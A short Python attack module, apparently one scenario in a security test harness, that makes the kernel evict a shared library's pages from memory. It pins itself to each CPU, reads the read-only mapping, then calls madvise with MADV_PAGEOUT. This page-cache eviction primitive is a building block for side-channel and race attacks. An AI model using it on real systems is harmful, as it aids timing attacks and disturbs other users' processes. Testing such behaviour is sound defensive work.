"""Has the kernel drop a library from memory through a mapping of it."""

import mmap
import os
from contextlib import suppress

MADV_PAGEOUT = 21


def attack(world):
    with open(world["library"], "rb") as file:
        pages = mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ, flags=mmap.MAP_SHARED)
    for processor in (*range(os.cpu_count()), *range(os.cpu_count())):
        with suppress(OSError):  # each processor keeps back what it has only just read
            os.sched_setaffinity(0, [processor])
        pages.read()  # only what is mapped is dropped
        pages.seek(0)
        pages.madvise(MADV_PAGEOUT)
    return "dropped"
